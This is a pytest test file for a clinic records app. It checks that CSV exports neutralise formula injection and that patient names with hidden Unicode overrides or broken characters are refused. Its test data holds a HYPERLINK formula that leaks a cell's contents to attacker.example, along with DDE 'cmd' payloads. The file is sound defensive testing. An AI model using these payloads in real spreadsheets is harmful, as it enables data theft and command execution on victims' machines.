"""Hostile text: formulas in CSV, names that display as something else, half characters."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from exodesk.domain.patient import Patient
from exodesk.domain.spreadsheet import safe_cell
from exodesk.paths import DataPaths
from exodesk.services.demo import seat, seed_demo
from exodesk.services.workspace import Services, open_services

BORN = date(1984, 5, 17)
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click for results")'


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Services:
    from tests.conftest import FakeClock

    svc = open_services(
        DataPaths(tmp_path_factory.mktemp("demo") / "clinic"), create=True, clock=FakeClock()
    )
    seed_demo(svc, patients=40, backup_history=False)
    yield svc
    svc.close()


def _signed_in_as(svc: Services, role: str) -> None:
    member = next(m for m in svc.clinic.staff() if m.role == role)
    seat(svc, int(member.id or 0))


# ---- CSV injection ---------------------------------------------------------------------------
def test_the_recall_csv_does_not_write_a_family_name_as_a_formula(demo: Services) -> None:
    _signed_in_as(demo, "practitioner")
    recall = demo.recall.recall("VC-2411")
    assert recall.rows, "the demo clinic's lots were used"
    victim = demo.patients.get(recall.rows[0].patient_id)
    saved = demo.patients.update(replace(victim, family_name=FORMULA, given_names="@SUM(1+1)"))
    assert saved.ok, saved.problems
    recall = demo.recall.recall("VC-2411")
    table = list(csv.reader(io.StringIO(demo.recall.recall_csv(recall))))
    families = [row[4] for row in table[1:]]
    givens = [row[5] for row in table[1:]]
    assert "'" + FORMULA in families
    assert "'@SUM(1+1)" in givens
    assert not any(cell.startswith(("=", "@", "+", "-")) for row in table for cell in row[4:6])


def test_every_csv_exodesk_writes_goes_through_the_one_guarded_writer() -> None:
    import exodesk

    root = Path(exodesk.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheet.py"
        and ("csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text())
    ]
    assert offenders == []


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-3.5", "'-3.5"),
        ("O'Brien", "O'Brien"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_safe_cell(cell: object, shown: object) -> None:
    assert safe_cell(cell) == shown


# ---- names that display as something else ----------------------------------------------------
@pytest.mark.parametrize(
    "family",
    [
        "\u202esenoj",  # right-to-left override: shows "jones"
        "Jo\u202dnes",  # left-to-right override
        "Jo\u2067nes\u2069",  # right-to-left isolate
        "Jo\u200bnes",  # zero-width space
        "Jo\u200dnes",  # zero-width joiner between Latin letters
        "\ufeffJones",  # byte-order mark
        "Jo\u2060nes",  # word joiner
    ],
)
def test_names_with_hidden_formatting_are_refused_plainly(services: Services, family: str) -> None:
    result = services.patients.create(Patient(family, "Ann", BORN))
    assert not result.ok
    [problem] = result.problems
    assert problem.field == "family_name"
    assert "hidden character" in problem.message and "retype" in problem.message
    assert services.patients.search("jones").rows == []


def test_a_lone_surrogate_is_refused_with_a_sentence_not_a_crash(services: Services) -> None:
    result = services.patients.create(Patient("Smith\ud83d", "Ann", BORN, notes="ok \udc00"))
    assert not result.ok
    assert {p.field for p in result.problems} == {"family_name", "notes"}
    assert all("broken character" in p.message for p in result.problems)
    # searching for one is not a crash either
    assert services.patients.search("Smith\ud83d").rows == []


@pytest.mark.parametrize(
    ("family", "given"),
    [
        ("حداد", "ليلى"),  # Arabic
        ("כהן", "נועה"),  # Hebrew
        ("محمدی", "نیلوفر\u200cسادات"),  # Persian with its zero-width non-joiner
        ("शर्मा", "प्रिया"),  # Devanagari
        ("王", "小明"),  # Chinese
        ("Ngũyễn", "Thị Hồng"),
        ("Smith", "Ann 👩\u200d⚕️"),  # an emoji sequence glued by a joiner
    ],
)
def test_real_names_in_every_script_still_save(services: Services, family: str, given: str) -> None:
    result = services.patients.create(Patient(family, given, BORN))
    assert result.ok, result.problems
    assert services.patients.get(result.record.id).given_names == given


def test_a_note_may_hold_a_pasted_zero_width_space_but_not_an_override(
    services: Services,
) -> None:
    ok = services.patients.create(Patient("Smith", "Ann", BORN, notes="pasted\u200bfrom Word"))
    assert ok.ok, ok.problems
    refused = services.patients.create(Patient("Smith", "Bea", BORN, notes="fine \u202etxet"))
    assert not refused.ok and refused.problems[0].field == "notes"
